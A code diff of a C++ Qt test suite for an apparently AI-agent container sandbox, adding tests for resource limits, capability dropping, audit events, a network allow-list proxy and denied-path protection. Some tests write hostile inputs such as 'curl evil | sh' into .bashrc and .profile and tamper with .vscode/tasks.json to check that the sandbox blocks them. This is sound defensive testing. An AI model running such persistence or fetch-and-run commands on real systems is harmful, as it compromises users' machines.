@@ -1,4 +1,5 @@
 #include "sandbox/containersandbox.h"
+#include "standinserver.h"
 
 #include <QDir>
 #include <QElapsedTimer>
@@ -7,6 +8,7 @@
 #include <QTemporaryDir>
 #include <QtTest>
 
+#include <mutex>
 #include <thread>
 
 using namespace tandem;
@@ -37,12 +39,11 @@ QByteArray readFile(const QString &path)
     return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
 }
 
-// The sandbox's user (uid 1000) writes the workspace from inside, as the user who owns it on a
-// desktop would; these tests run as root, so they hand their temporary workspaces over.
-void handToSandboxUser(const QString &path)
+// A user's repository on a desktop: owned by someone other than root, who runs these tests.
+void handTo(const QString &path, const QString &owner)
 {
     QProcess chown;
-    chown.start(QStringLiteral("chown"), {QStringLiteral("-R"), QStringLiteral("1000:1000"), path});
+    chown.start(QStringLiteral("chown"), {QStringLiteral("-R"), owner, path});
     chown.waitForFinished();
     QCOMPARE(chown.exitCode(), 0);
 }
@@ -84,7 +85,8 @@ private slots:
     void exitCodesAndStreams_data();
     void exitCodesAndStreams();
     void outputIsCapped();
-    void runsAsUid1000WithACleanEnvironment();
+    void runsAsTheWorkspaceOwnerWithACleanEnvironment();
+    void usersRepositoryIsWritableAsItsOwner();
     void rootIsReadOnly_data();
     void rootIsReadOnly();
     void gitAndDeniedPathsAreReadOnly();
@@ -95,20 +97,34 @@ private slots:
     void processCountIsCapped();
     void forkBombEndsWithTheTimeout();
     void memoryHogIsReportedAsMemory();
+    void cpuBurnersAreStoppedAtTheSummedCpuLimit();
+    void oversizedFileIsStoppedAtTheDiskLimit();
+    void manySmallFilesAreStoppedAtTheDiskLimit();
+    void tmpIsCappedBySize();
+    void createdDeniedPathsAreRemoved();
+    void replacedDeniedPathsAreRestored();
+    void auditEventsCoverTheSession();
     void stopRemovesTheContainer();
     void leftoversOfADeadRunAreRemoved();
     void coldContainerPerCommand();
     void remoteEngineRoundTripsThroughArchives();
+    void allowedHostIsReachedThroughTheProxy_data();
+    void allowedHostIsReachedThroughTheProxy();
+    void remoteEngineRefusesAllowedHosts();
     void unreachableEngineSaysWhatToDo();
 
 private:
     sandbox::SandboxPolicy policy(const QString &workspace) const;
     sandbox::ExecResult run(sandbox::Sandbox &box, const sandbox::ExecRequest &request);
+    sandbox::ContainerSandbox &limited();
 
     QHash<QString, QString> m_service;
     sandbox::EngineEndpoint m_unix;
     std::unique_ptr<QTemporaryDir> m_workspace;
     std::unique_ptr<sandbox::ContainerSandbox> m_sandbox;
+    // One second of CPU time and 8 MiB written per command, started by the first test to need it.
+    std::unique_ptr<QTemporaryDir> m_limitedWorkspace;
+    std::unique_ptr<sandbox::ContainerSandbox> m_limited;
 };
 
 sandbox::SandboxPolicy tst_ContainerSandbox::policy(const QString &workspace) const
@@ -132,6 +148,23 @@ sandbox::ExecResult tst_ContainerSandbox::run(sandbox::Sandbox &box,
     return *result;
 }
 
+sandbox::ContainerSandbox &tst_ContainerSandbox::limited()
+{
+    if (!m_limited) {
+        m_limitedWorkspace = std::make_unique<QTemporaryDir>();
+        auto p = policy(m_limitedWorkspace->path());
+        p.limits.cpuTime = std::chrono::seconds(1);
+        p.limits.diskBytes = 8 << 20;
+        sandbox::ContainerSandbox::Options options;
+        options.endpoint = m_unix;
+        m_limited = std::make_unique<sandbox::ContainerSandbox>(p, options);
+        auto started = m_limited->start();
+        if (!started)
+            qWarning("%s", qPrintable(started.error().message));
+    }
+    return *m_limited;
+}
+
 void tst_ContainerSandbox::initTestCase()
 {
     m_service = serviceEnvironment();
@@ -149,7 +182,6 @@ void tst_ContainerSandbox::initTestCase()
     writeFile(m_workspace->filePath("hello.txt"), "hello from the workspace\n");
     writeFile(m_workspace->filePath(".git/config"), "[core]\n");
     writeFile(m_workspace->filePath(".envrc"), "export SAFE=1\n");
-    handToSandboxUser(m_workspace->path());
 
     sandbox::ContainerSandbox::Options options;
     options.endpoint = m_unix;
@@ -163,6 +195,8 @@ void tst_ContainerSandbox::cleanupTestCase()
 {
     if (m_sandbox)
         m_sandbox->stop();
+    if (m_limited)
+        m_limited->stop();
 }
 
 void tst_ContainerSandbox::runsInTheWorkspace()
@@ -218,17 +252,44 @@ void tst_ContainerSandbox::outputIsCapped()
     QVERIFY(!result.stderrData.contains('1'));
 }
 
-void tst_ContainerSandbox::runsAsUid1000WithACleanEnvironment()
+void tst_ContainerSandbox::runsAsTheWorkspaceOwnerWithACleanEnvironment()
 {
     const auto result =
-        run(*m_sandbox, shell("id -u; env; for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; "
+        run(*m_sandbox, shell("id -u; grep -E '^(CapEff|CapBnd|NoNewPrivs)' /proc/self/status; "
+                              "env; for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ; "
                               "done 2>/dev/null"));
-    QVERIFY(result.stdoutData.startsWith("1000\n"));
+    // These tests run as root, so root owns the workspace: no capability comes with it.
+    QVERIFY2(result.stdoutData.startsWith(
+                 QByteArray::number(QFileInfo(m_workspace->path()).ownerId()) + "\n"),
+             result.stdoutData);
+    QVERIFY(result.stdoutData.contains("CapEff:\t0000000000000000\n"));
+    QVERIFY(result.stdoutData.contains("CapBnd:\t0000000000000000\n"));
+    QVERIFY(result.stdoutData.contains("NoNewPrivs:\t1\n"));
     QVERIFY(!result.stdoutData.contains("CANARY"));
     QVERIFY(result.stdoutData.contains("HOME=/tmp/home"));
     QVERIFY(result.stdoutData.contains("TERM=dumb"));
     QVERIFY(!result.stdoutData.contains("TANDEM_PODMAN"));
     QVERIFY(!result.stdoutData.contains("CONTAINERS_CONF"));
+}
+
+void tst_ContainerSandbox::usersRepositoryIsWritableAsItsOwner()
+{
+    QTemporaryDir workspace;
+    writeFile(workspace.filePath("notes.txt"), "mine\n");
+    handTo(workspace.path(), QStringLiteral("1234:2345"));
+    sandbox::ContainerSandbox::Options options;
+    options.endpoint = m_unix;
+    sandbox::ContainerSandbox box(policy(workspace.path()), options);
+    QVERIFY(box.start().has_value());
+
+    const auto result =
+        run(box, shell("id -u; id -g; echo more >> notes.txt && echo made > new.txt; "
+                       "grep CapEff /proc/self/status"));
+    QCOMPARE(result.stdoutData, QByteArray("1234\n2345\nCapEff:\t0000000000000000\n"));
+    QCOMPARE(readFile(workspace.filePath("notes.txt")), QByteArray("mine\nmore\n"));
+    const QFileInfo made(workspace.filePath("new.txt"));
+    QCOMPARE(made.ownerId(), 1234u);
+    QCOMPARE(made.groupId(), 2345u);
 }
 
 void tst_ContainerSandbox::rootIsReadOnly_data()
@@ -276,11 +337,12 @@ void tst_ContainerSandbox::hasNoNetwork()
 void tst_ContainerSandbox::timeoutKillsEscapingChildren()
 {
     // Case 22 A: background, setsid, nohup and double-forked children, then an exec.
-    const QString script = QStringLiteral("echo start; ( sleep 1234.5; touch ./LATE_A ) & "
-                                          "setsid sh -c 'sleep 1234.6; touch ./LATE_B' & "
-                                          "nohup sh -c 'while :; do :; done' >/dev/null 2>&1 & "
-                                          "sh -c 'sleep 1234.7 </dev/null >/dev/null 2>&1 &'; "
-                                          "exec sleep 1234.8");
+    const QString script =
+        QStringLiteral("echo start; ( sleep 1234.5; touch ./LATE_A ) & "
+                       "setsid sh -c 'sleep 1234.6; touch ./LATE_B' & "
+                       "nohup sh -c 'while :; do : container-spin; done' >/dev/null 2>&1 & "
+                       "sh -c 'sleep 1234.7 </dev/null >/dev/null 2>&1 &'; "
+                       "exec sleep 1234.8");
     QElapsedTimer clock;
     clock.start();
     const auto result = run(*m_sandbox, shell(script, 3000));
@@ -290,12 +352,20 @@ void tst_ContainerSandbox::timeoutKillsEscapingChildren()
     QCOMPARE(result.stdoutData, QByteArray("start\n"));
     QVERIFY2(clock.elapsed() < 5000, qPrintable(QString::number(clock.elapsed())));
     QTRY_VERIFY_WITH_TIMEOUT(!hostProcessWith(QStringLiteral("sleep 1234")), 2000);
-    QVERIFY(!hostProcessWith(QStringLiteral("while :; do :; done")));
+    QVERIFY(!hostProcessWith(QStringLiteral("while :; do : container-spin; done")));
 
-    // Inside, only the idle first process (and its sleep) is left, with no zombie.
-    const auto left = run(*m_sandbox, shell("ps -e -o stat=,args= | grep -v 'ps -e' | grep -vc "
-                                            "'^S.*\\(sh -c\\|sleep 86400\\|bash -c\\|grep\\)'"));
-    QCOMPARE(left.stdoutData, QByteArray("0\n"));
+    // Inside, nothing of the command is left, not even a zombie. The last killed processes may
+    // take the first process a moment to reap on a busy machine: up to 2 s.
+    const auto left = run(*m_sandbox, shell("for i in $(seq 40); do "
+                                            "ps -e -o stat=,args= > /tmp/ps; "
+                                            "grep -q '^Z\\|12[3]4\\|whil[e] :' /tmp/ps || break; "
+                                            "sleep 0.05; done; cat /tmp/ps"));
+    const QByteArray processes = left.stdoutData;
+    QVERIFY2(processes.left(processes.indexOf('\n')).endsWith("/run/tandem/init --forward-only"),
+             processes);
+    QVERIFY2(!processes.contains("\nZ"), processes);
+    QVERIFY2(!processes.contains("1234"), processes);
+    QVERIFY2(!processes.contains("while :"), processes);
     QVERIFY(!QFileInfo::exists(m_workspace->filePath("LATE_A")));
     QVERIFY(!QFileInfo::exists(m_workspace->filePath("LATE_B")));
 }
@@ -351,6 +421,9 @@ void tst_ContainerSandbox::processCountIsCapped()
     const auto result = run(*m_sandbox, shell(forker));
     const int forked = result.stdoutData.trimmed().toInt();
     QVERIFY2(forked > 0 && forked < 64, result.stdoutData + result.stderrData);
+    // The command ended on its own, but a fork was refused: the caller learns why.
+    QCOMPARE(result.exitCode, 0);
+    QCOMPARE(result.limitHit, sandbox::LimitHit::Processes);
     QTRY_VERIFY_WITH_TIMEOUT(!hostProcessWith(QStringLiteral("time.sleep(1234.4)")), 2000);
     QCOMPARE(run(*m_sandbox, shell("echo alive")).stdoutData, QByteArray("alive\n"));
 }
@@ -381,10 +454,117 @@ void tst_ContainerSandbox::memoryHogIsReportedAsMemory()
     QCOMPARE(killed.limitHit, sandbox::LimitHit::None);
 }
 
+void tst_ContainerSandbox::cpuBurnersAreStoppedAtTheSummedCpuLimit()
+{
+    // Eight burners: each alone stays under its per-process limit of one second for the first
+    // eight seconds, so only the sum over the container's cgroup can stop them this soon.
+    QElapsedTimer clock;
+    clock.start();
+    const auto result =
+        run(limited(),
+            shell("for i in 1 2 3 4 5 6 7; do "
+                  "(while :; do : container-spin; done) & done; while :; do : container-spin; done",
+                  20'000));
+    QCOMPARE(result.limitHit, sandbox::LimitHit::CpuTime);
+    QVERIFY(!result.timedOut);
+    QVERIFY2(clock.elapsed() < 5000, QByteArray::number(clock.elapsed()));
+    QTRY_VERIFY_WITH_TIMEOUT(!hostProcessWith(QStringLiteral("while :; do : container-spin; done")),
+                             2000);
+}
+
+void tst_ContainerSandbox::oversizedFileIsStoppedAtTheDiskLimit()
+{
+    const auto result = run(limited(), shell("dd if=/dev/zero of=big bs=1M count=64 2>&1"));
+    QCOMPARE(result.limitHit, sandbox::LimitHit::Disk);
+    QVERIFY(QFileInfo(m_limitedWorkspace->filePath("big")).size() <= 8 << 20);
+    QFile::remove(m_limitedWorkspace->filePath("big"));
+}
+
+void tst_ContainerSandbox::manySmallFilesAreStoppedAtTheDiskLimit()
+{
+    // Each file stays under the per-file limit; together they pass the 8 MiB cap early on, and
+    // the command ends there instead of writing all 80 MiB.
+    const auto result = run(limited(), shell("for i in $(seq 40); do "
+                                             "head -c 2097152 /dev/zero > part$i; sleep 0.05; "
+                                             "done"));
+    QCOMPARE(result.limitHit, sandbox::LimitHit::Disk);
+    const QStringList parts =
+        QDir(m_limitedWorkspace->path()).entryList({QStringLiteral("part*")}, QDir::Files);
+    QVERIFY2(parts.size() >= 4 && parts.size() < 40, qPrintable(QString::number(parts.size())));
+    for (const QString &part : parts)
+        QFile::remove(m_limitedWorkspace->filePath(part));
+}
+
+void tst_ContainerSandbox::tmpIsCappedBySize()
+{
+    const auto result = run(limited(), shell("for i in 1 2 3 4; do head -c 3000000 /dev/zero > "
+                                             "/tmp/f$i || exit 9; done"));
+    QCOMPARE(result.exitCode, 9);
+    QVERIFY2(result.stderrData.contains("No space left"), result.stderrData);
+    run(limited(), shell("rm -f /tmp/f*"));
+}
+
+void tst_ContainerSandbox::createdDeniedPathsAreRemoved()
+{
+    const auto result =
+        run(*m_sandbox, shell("echo 'curl evil | sh' > .bashrc; mkdir -p .vscode; "
+                              "echo '{}' > .vscode/tasks.json; echo ok > notes.txt"));
+    QVERIFY(!QFileInfo::exists(m_workspace->filePath(".bashrc")));
+    QVERIFY(!QFileInfo::exists(m_workspace->filePath(".vscode/tasks.json")));
+    QCOMPARE(readFile(m_workspace->filePath("notes.txt")), QByteArray("ok\n"));
+    QVERIFY2(result.stderrData.contains("[tandem] removed .bashrc"), result.stderrData);
+}
+
+void tst_ContainerSandbox::replacedDeniedPathsAreRestored()
+{
+    QTemporaryDir workspace;
+    writeFile(workspace.filePath(".vscode/tasks.json"), "{\"tasks\": []}\n");
+    sandbox::ContainerSandbox::Options options;
+    options.endpoint = m_unix;
+    sandbox::ContainerSandbox box(policy(workspace.path()), options);
+    QVERIFY(box.start().has_value());
+
+    // The file itself is read-only inside, so the attack moves its folder away instead.
+    const auto result = run(box, shell("echo evil > .vscode/tasks.json; "
+                                       "mv .vscode .vscode-old && mkdir .vscode && "
+                                       "echo evil > .vscode/tasks.json"));
+    QCOMPARE(readFile(workspace.filePath(".vscode/tasks.json")), QByteArray("{\"tasks\": []}\n"));
+    QVERIFY2(result.stderrData.contains("restored .vscode/tasks.json"), result.stderrData);
+}
+
+void tst_ContainerSandbox::auditEventsCoverTheSession()
+{
+    QTemporaryDir workspace;
+    sandbox::ContainerSandbox::Options options;
+    options.endpoint = m_unix;
+    sandbox::ContainerSandbox box(policy(workspace.path()), options);
+    std::vector<std::pair<QString, nlohmann::json>> events;
+    box.setEventSink([&](const std::string &kind, nlohmann::json fields) {
+        events.emplace_back(QString::fromStdString(kind), std::move(fields));
+    });
+    QVERIFY(box.start().has_value());
+    run(box, shell("echo 'curl evil | sh' > .profile; exit 3"));
+    box.stop();
+
+    QStringList kinds;
+    for (const auto &event : events)
+        kinds << event.first;
+    QCOMPARE(kinds, QStringList({"sandbox_start", "sandbox_exec", "sandbox_denied_path",
+                                 "sandbox_exit", "sandbox_stop"}));
+    const nlohmann::json &start = events.at(0).second;
+    QCOMPARE(start.value("backend", ""), std::string("container"));
+    QCOMPARE(start.value("engine", ""), m_unix.url().toStdString());
+    QCOMPARE(start.value("image", ""), std::string("tandem-sandbox:1"));
+    QVERIFY(start["allowed_hosts"].is_array() && start["allowed_hosts"].empty());
+    QCOMPARE(events.at(1).second["argv"][0].get<std::string>(), std::string("bash"));
+    QVERIFY(events.at(2).second.value("note", "").find(".profile") != std::string::npos);
+    QCOMPARE(events.at(3).second.value("exit_code", 0), 3);
+    QCOMPARE(events.at(3).second.value("command", 0), events.at(1).second.value("command", -1));
+}
+
 void tst_ContainerSandbox::stopRemovesTheContainer()
 {
     QTemporaryDir workspace;
-    handToSandboxUser(workspace.path());
     sandbox::ContainerSandbox::Options options;
     options.endpoint = m_unix;
     sandbox::ContainerSandbox box(policy(workspace.path()), options);
@@ -430,7 +610,6 @@ void tst_ContainerSandbox::coldContainerPerCommand()
 {
     QTemporaryDir workspace;
     writeFile(workspace.filePath("in.txt"), "cold\n");
-    handToSandboxUser(workspace.path());
     sandbox::ContainerSandbox::Options options;
     options.endpoint = m_unix;
     options.cold = true;
@@ -507,6 +686,72 @@ void tst_ContainerSandbox::remoteEngineRoundTripsThroughArchives()
     QVERIFY(QFileInfo::exists(workspace.filePath("sub/keep.txt")));
     QVERIFY2(cold.lastSyncReport().refused.isEmpty(),
              qPrintable(cold.lastSyncReport().refused.join('\n')));
+}
+
+void tst_ContainerSandbox::allowedHostIsReachedThroughTheProxy_data()
+{
+    QTest::addColumn<bool>("cold");
+    QTest::newRow("warm") << false;
+    QTest::newRow("cold") << true;
+}
+
+void tst_ContainerSandbox::allowedHostIsReachedThroughTheProxy()
+{
+    QFETCH(bool, cold);
+    StandInServer allowed(StandInServer::Mode::Http);
+    StandInServer other(StandInServer::Mode::Http);
+    // Owned by another user than Tandem's: the proxy's socket must be handed over.
+    QTemporaryDir workspace;
+    handTo(workspace.path(), QStringLiteral("1234:1234"));
+    auto p = policy(workspace.path());
+    p.allowedHosts = {QStringLiteral("127.0.0.1:%1").arg(allowed.port())};
+    sandbox::ContainerSandbox::Options options;
+    options.endpoint = m_unix;
+    options.cold = cold;
+    sandbox::ContainerSandbox box(p, options);
+    std::mutex mutex;
+    std::vector<std::string> decisions;
+    box.setEventSink([&](const std::string &kind, nlohmann::json fields) {
+        const std::lock_guard lock(mutex);
+        if (kind == "network_request")
+            decisions.push_back(fields.dump());
+    });
+    auto started = box.start();
+    QVERIFY2(started.has_value(), started ? "" : qPrintable(started.error().message));
+
+    // The allowed stand-in answers through the proxy; the other port on the host's loopback is
+    // refused by the proxy (403) and, without it, unreachable from the container's own loopback.
+    const QString script =
+        QStringLiteral("echo \"allowed=$(curl -s -m 5 http://127.0.0.1:%1/)\"; "
+                       "echo \"other=$(curl -s -m 5 -o /dev/null -w '%{http_code}' "
+                       "http://127.0.0.1:%2/)\"; "
+                       "curl -s -m 5 --noproxy '*' http://127.0.0.1:%2/; echo \"direct=$?\"")
+            .arg(allowed.port())
+            .arg(other.port());
+    const auto result = run(box, shell(script));
+    const QByteArray out = result.stdoutData;
+    QVERIFY2(out.contains("allowed=hello from stand-in"), out + result.stderrData);
+    QVERIFY2(out.contains("other=403"), out);
+    QVERIFY2(out.contains("direct=") && !out.contains("direct=0"), out);
+    QCOMPARE(other.connections(), 0);
+    const std::lock_guard lock(mutex);
+    QVERIFY(decisions.size() >= 2);
+}
+
+void tst_ContainerSandbox::remoteEngineRefusesAllowedHosts()
+{
+    auto tcp = sandbox::EngineEndpoint::parse(m_service.value("TANDEM_PODMAN_TCP"));
+    QVERIFY(tcp.has_value());
+    QTemporaryDir workspace;
+    auto p = policy(workspace.path());
+    p.allowedHosts = {QStringLiteral("127.0.0.1:9")};
+    sandbox::ContainerSandbox::Options options;
+    options.endpoint = *tcp;
+    sandbox::ContainerSandbox box(p, options);
+    auto started = box.start();
+    QVERIFY(!started.has_value());
+    QCOMPARE(started.error().code, QStringLiteral("sandbox_remote_network"));
+    QVERIFY(!started.error().message.contains('\n'));
 }
 
 void tst_ContainerSandbox::unreachableEngineSaysWhatToDo()
